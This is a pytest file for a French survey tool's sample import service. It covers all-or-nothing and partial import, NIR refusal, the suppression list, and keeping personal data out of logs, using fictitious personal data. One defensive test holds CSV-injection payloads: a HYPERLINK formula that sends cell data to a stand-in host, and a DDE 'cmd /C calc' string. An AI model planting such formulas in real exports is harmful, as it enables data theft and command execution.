"""The sample import service on a real vault: all or nothing, partial, NIR, suppression, logs."""

from __future__ import annotations

import json
import logging
from datetime import datetime, timezone

import openpyxl
import pytest

from etudes_desktop.core.errors import EtudesError
from etudes_desktop.core.nir import nir_key
from etudes_desktop.core.sample import SampleRefused
from etudes_desktop.core.sample_mapping import parse_mapping
from etudes_desktop.storage import audit
from etudes_desktop.storage.respondents import RespondentRepository, SuppressionList
from etudes_desktop.storage.sample_import import import_sample

NOW = datetime(2026, 3, 1, 9, 30, tzinfo=timezone.utc)
HEADER = "Identifiant;Civilité;Nom;Prénom;Âge;Code postal;Ville;Téléphone;Courriel;Commentaire"
ROWS = [
    "A001;Mme;Lefèvre;Hélène;54;75011;Paris;06 12 34 56 78;helene@exemple.fr;RAS",
    "A002;M.;Dupont;José;71;01000;Bourg-en-Bresse;+33 4 74 11 22 33;jose.dupont@exemple.fr;",
    "A003;M.;N'Diaye;Moussa;38;69003;Lyon;06 11 22 33 44;;rappeler le soir",
]
BODY = "1850578006084"
NIR = BODY + f"{nir_key(BODY):02d}"
PERSONAL = ["Lefèvre", "Hélène", "Dupont", "José", "N'Diaye", "Moussa", "0612345678", "06 12 34 56 78",
            "helene@exemple.fr", "jose.dupont", "Bourg-en-Bresse", "rappeler", BODY]


def add_study(vault, study_id="ETU-1"):
    with vault.transaction() as conn:
        conn.execute("INSERT INTO study (id, version, title, package_json, imported_at) VALUES (?, '1', 'Satisfaction', '{}', ?)",
                     (study_id, NOW.isoformat()))
    return study_id


def write_csv(tmp_path, lines, name="echantillon.csv", encoding="utf-8"):
    path = tmp_path / name
    path.write_bytes(("\r\n".join(lines) + "\r\n").encode(encoding))
    return path


def snapshot(vault):
    """Everything an import may touch."""
    conn = vault.conn
    return {
        "respondent": [tuple(r) for r in conn.execute("SELECT * FROM respondent ORDER BY id")],
        "audit": [tuple(r) for r in conn.execute("SELECT * FROM audit ORDER BY id")],
        "suppression": [tuple(r) for r in conn.execute("SELECT * FROM suppression ORDER BY digest")],
        "study": [tuple(r) for r in conn.execute("SELECT * FROM study ORDER BY id")],
    }


@pytest.fixture
def study(vault):
    return add_study(vault)


def test_import_stores_respondents_mapping_and_audit(vault, study, tmp_path):
    report = import_sample(vault, study, write_csv(tmp_path, [HEADER, *ROWS]), now=NOW)
    assert (report.total_rows, report.imported, report.rejected, report.suppressed) == (3, 3, 0, 0)
    assert report.summary() == "3 répondants importés dans l'étude ETU-1"
    repo = RespondentRepository(vault)
    helene = repo.by_sample_id(study, "A001")
    assert (helene.last_name, helene.first_name, helene.phone, helene.postcode) == ("Lefèvre", "Hélène", "0612345678", "75011")
    assert helene.attributes == {"Commentaire": "RAS"}
    assert repo.saved_mapping(study).columns["Nom"] == "last_name"
    entries = audit.entries(vault.conn)
    assert [(e.event, e.object_ids, e.counts) for e in entries] == [
        ("sample.import", [study], {"rows": 3, "imported": 3, "rejected": 0, "suppressed": 0})]
    assert not vault.conn.in_transaction


@pytest.mark.parametrize(
    "bad",
    [
        f"A004;Mme;Martin;Léa;40;75011;Paris;;;mon numéro de sécu {NIR}",   # a comment
        f"A004;Mme;Martin;Léa;40;75011;{BODY[:7]} {BODY[7:]};;;",           # where a town should be
        "A004;Mme;Martin;Léa;40;75011;Paris;;;2 85 05 2A 123 456",           # Corsica, no key
    ],
)
def test_refused_nir_file_leaves_the_vault_unchanged(vault, study, tmp_path, bad):
    import_sample(vault, study, write_csv(tmp_path, [HEADER, "Z001;M.;Roy;Léo;30;33000;Bordeaux;;;"], "first.csv"), now=NOW)
    before = snapshot(vault)
    path = write_csv(tmp_path, [HEADER, *ROWS, bad, "A005;Mme;Petit;Lou;33;33000;Bordeaux;;;"])
    for partial in (False, True):
        with pytest.raises(SampleRefused) as refused:
            import_sample(vault, study, path, partial=partial, now=NOW)
        assert refused.value.nir
        assert "ligne 5, colonne" in refused.value.message
        assert BODY not in refused.value.message.replace(" ", "")
    assert snapshot(vault) == before
    assert not vault.conn.in_transaction


def test_invalid_row_refuses_everything_by_default(vault, study, tmp_path):
    before = snapshot(vault)
    path = write_csv(tmp_path, [HEADER, *ROWS, "A004;Mme;;Léa;quarante;75011;Paris;;;", "A005;Mme;Petit;Lou;33;33000;Bordeaux;;"])
    with pytest.raises(SampleRefused) as refused:
        import_sample(vault, study, path, now=NOW)
    message = refused.value.message
    assert "ligne 5, colonne Nom : nom vide" in message
    assert "ligne 5, colonne Âge : âge non numérique" in message
    assert "ligne 6 : 9 colonnes au lieu de 10" in message
    assert snapshot(vault) == before


def test_partial_import_stores_valid_rows_and_drops_every_duplicate(vault, study, tmp_path):
    lines = [HEADER, *ROWS, "A004;Mme;;Léa;40;75011;Paris;;;", "A002;Mme;Autre;Eve;30;75011;Paris;;;",
             "A005;Mme;Petit;Lou;33;33000;Bordeaux;;;"]
    report = import_sample(vault, study, write_csv(tmp_path, lines), partial=True, now=NOW)
    repo = RespondentRepository(vault)
    assert repo.sample_ids(study) == {"A001", "A003", "A005"}
    assert (report.imported, report.rejected) == (3, 3)
    assert [str(p) for p in report.problems] == [
        "ligne 3, colonne Identifiant : identifiant en double (présent sur plusieurs lignes)",
        "ligne 5, colonne Nom : nom vide",
        "ligne 6, colonne Identifiant : identifiant en double (déjà ligne 3)",
    ]
    assert audit.entries(vault.conn)[-1].counts == {"rows": 6, "imported": 3, "rejected": 3, "suppressed": 0}


def test_importing_the_same_people_twice_is_refused(vault, study, tmp_path):
    path = write_csv(tmp_path, [HEADER, *ROWS])
    import_sample(vault, study, path, now=NOW)
    with pytest.raises(SampleRefused, match="identifiant déjà importé dans cette étude"):
        import_sample(vault, study, path, now=NOW)
    assert RespondentRepository(vault).count(study) == 3


def test_suppression_list_on_a_second_import(vault, study, tmp_path):
    import_sample(vault, study, write_csv(tmp_path, [HEADER, *ROWS], "vague1.csv"), now=NOW)
    repo = RespondentRepository(vault)
    jose = repo.by_sample_id(study, "A002")
    SuppressionList(vault).add_respondent(jose, NOW)
    with vault.transaction() as conn:  # what an objection does to the contact data (rights module)
        conn.execute("DELETE FROM respondent WHERE id = ?", (jose.id,))
    second = [HEADER,
              "B001;M.;Dupont;José;71;01000;Bourg;04.74.11.22.33;;",          # same phone, new id
              "B002;M.;Dupont;J.;71;01000;Bourg;;JOSE.DUPONT@exemple.fr;",    # same e-mail
              "A002;M.;Dupont;José;71;01000;Bourg;;;",                        # same sample id
              "B003;Mme;Petit;Lou;33;33000;Bordeaux;06 99 88 77 66;lou@exemple.fr;"]
    report = import_sample(vault, study, write_csv(tmp_path, second, "vague2.csv"), now=NOW)
    assert (report.imported, report.suppressed) == (1, 3)
    assert "3 personnes ignorées (liste d'opposition)" in report.summary()
    assert repo.sample_ids(study) == {"A001", "A003", "B003"}
    dump = json.dumps(snapshot(vault), ensure_ascii=False)
    for contact in ("0474112233", "jose.dupont", "José", "Dupont"):
        assert contact not in dump


def test_saved_mapping_is_reused_for_the_same_columns(vault, study, tmp_path):
    mapping = parse_mapping({"columns": {"Identifiant": "sample_id", "Nom": "last_name", "Commentaire": "ignore",
                                         "Téléphone": "phone", "Courriel": "ignore", "Prénom": "first_name",
                                         "Civilité": "ignore", "Âge": "age", "Code postal": "ignore", "Ville": "town"}})
    import_sample(vault, study, write_csv(tmp_path, [HEADER, ROWS[0]], "un.csv"), mapping, now=NOW)
    import_sample(vault, study, write_csv(tmp_path, [HEADER, ROWS[1]], "deux.csv"), now=NOW)
    jose = RespondentRepository(vault).by_sample_id(study, "A002")
    assert jose.email is None and jose.attributes == {} and jose.title is None and jose.postcode is None
    assert jose.phone == "0474112233"


def test_xlsx_import_with_progress(vault, study, tmp_path):
    path = tmp_path / "echantillon.xlsx"
    book = openpyxl.Workbook()
    book.active.append(["Identifiant", "Nom", "Prénom", "Portable"])
    for i in range(1200):
        book.active.append([f"X{i:04d}", "Martin", "Léa", 612345678])
    book.save(path)
    seen = []
    report = import_sample(vault, study, path, progress=lambda rows, fraction: seen.append(rows), now=NOW)
    assert report.imported == 1200 and seen == [1000]
    assert RespondentRepository(vault).by_sample_id(study, "X0001").phone == "0612345678"


def test_unknown_or_closed_study(vault, study, tmp_path):
    path = write_csv(tmp_path, [HEADER, *ROWS])
    with pytest.raises(EtudesError, match="étude inconnue"):
        import_sample(vault, "NOPE", path)
    with vault.transaction() as conn:
        conn.execute("UPDATE study SET closed_at = ? WHERE id = ?", (NOW.isoformat(), study))
    with pytest.raises(EtudesError, match="close"):
        import_sample(vault, study, path)


def test_no_personal_data_in_logs_or_audit(vault, study, tmp_path, caplog):
    caplog.set_level(logging.DEBUG)
    import_sample(vault, study, write_csv(tmp_path, [HEADER, *ROWS], "ok.csv"), now=NOW)
    with pytest.raises(SampleRefused):
        import_sample(vault, study, write_csv(tmp_path, [HEADER, f"C001;M.;Dupont;José;40;75011;Paris;;;{NIR}"], "nir.csv"))
    with pytest.raises(SampleRefused):
        import_sample(vault, study, write_csv(tmp_path, [HEADER, "C002;M.;;José;abc;75011;Paris;;;"], "bad.csv"))
    logged = "\n".join(r.getMessage() for r in caplog.records)
    assert "sample imported" in logged and "sample import refused" in logged
    audited = json.dumps([e.as_dict() for e in audit.entries(vault.conn)], ensure_ascii=False)
    for value in PERSONAL + ["A001", "C001"]:
        assert value not in logged
        assert value not in audited


def test_formula_cells_are_kept_as_text_a_spreadsheet_will_not_run(vault, study, tmp_path):
    """Issue 10 item 5 (OWASP CSV injection): a cell a spreadsheet would run is stored with a quote
    in front, so the access export, the server and any later spreadsheet show it as text; numbers
    and phones starting with + or - are left alone."""
    rows = ['A001;Mme;=HYPERLINK("http://x.example/?"&A1,"Cliquez");Hélène;54;75011;-Paris;+33 6 12 34 56 78;;'
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "A002;M.;Dupont;José;71;01000;Bourg;06 11 22 33 44;;\t=1+1",
            "A003;M.;Martin;Paul;38;69003;Lyon;;;-3"]
    report = import_sample(vault, study, write_csv(tmp_path, [HEADER, *rows]), now=NOW)
    assert (report.imported, report.neutralised) == (3, 4)
    assert report.summary().endswith("; 4 cellules commençant par = + - @ gardées comme texte "
                                     "(apostrophe ajoutée : un tableur ne les exécutera pas)")
    repo = RespondentRepository(vault)
    first, second, third = (repo.by_sample_id(study, f"A00{i}") for i in (1, 2, 3))
    assert first.last_name == '\'=HYPERLINK("http://x.example/?"&A1,"Cliquez")'
    assert first.town == "'-Paris" and first.phone == "0612345678"  # the phone normalised as usual
    assert first.attributes == {"Commentaire": "'@SUM(1+1)*cmd|' /C calc'!A0"}
    assert second.attributes == {"Commentaire": "'=1+1"}
    assert third.attributes == {"Commentaire": "-3"}
    assert audit.entries(vault.conn)[-1].counts["neutralised"] == 4
